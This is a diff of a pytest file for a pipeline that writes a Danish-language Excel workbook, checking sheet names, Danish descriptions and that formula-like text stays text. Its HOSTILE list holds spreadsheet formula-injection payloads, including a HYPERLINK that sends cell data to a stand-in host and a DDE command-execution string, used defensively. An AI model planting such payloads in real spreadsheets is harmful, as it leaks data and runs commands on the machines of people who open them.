@@ -1,13 +1,17 @@
 """kvis.xlsx as Excel users get it: a sheet per mart with a Danish name, the describing first sheet, percentages,
 hidden cells empty, and names from the roster stored as text, never as formulas."""
 
+from pathlib import Path
+
 import duckdb
 import openpyxl
 import pytest
+import yaml
 
 from kvis_pipeline.publish.labels import ABOUT_SHEET, SHEET_NAMES
-from kvis_pipeline.publish.workbook import write_workbook
+from kvis_pipeline.publish.workbook import describe, write_workbook
 
+REPO = Path(__file__).parents[2]
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1, "klik")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]
 
 
@@ -35,8 +39,8 @@ def test_a_sheet_per_mart_after_the_describing_sheet(publication, tmp_path):
     about = [[c.value for c in row] for row in workbook[ABOUT_SHEET].iter_rows()]
     assert about[0] == ["Ark", "Tabel", "Kolonne", "Type", "Beskrivelse"]
     described = {(row[1], row[2]): row[4] for row in about[1:] if row[1]}
-    assert described[("cluster_results", None)] == "Per wave, cluster and item."
-    assert described[("cluster_results", "share_positive")] == "n_positive / n_valid."
+    assert described[("cluster_results", None)] == "Resultater pr. bølge, klynge og spørgsmål."
+    assert described[("cluster_results", "share_positive")].startswith("Andel positive svar")
     assert {c for (t, c) in described if t == "cluster_results" and c} == {
         "wave",
         "cluster_id",
@@ -64,3 +68,17 @@ def test_texts_stay_texts_shares_are_percentages_and_hidden_cells_are_empty(publ
     hidden = next(row for row in rows if row["cluster_id"].value == 9)
     assert hidden["share_positive"].value is None and hidden["n_valid"].value is None
     assert hidden["suppression"].value == "complementary"
+
+
+def test_every_published_table_and_column_is_described_in_danish():
+    """The dbt contracts list what is published; each table and column needs a Danish description for Excel users."""
+    marts = yaml.safe_load((REPO / "dbt_project" / "models" / "marts" / "_marts.yml").read_text(encoding="utf-8"))
+    missing = []
+    for model in marts["models"]:
+        if describe(model["name"]) is None:
+            missing.append(model["name"])
+        missing += [
+            f"{model['name']}.{c['name']}" for c in model["columns"] if describe(model["name"], c["name"]) is None
+        ]
+    assert missing == []
+    assert {m["name"] for m in marts["models"]} == set(SHEET_NAMES)  # and a Danish sheet name
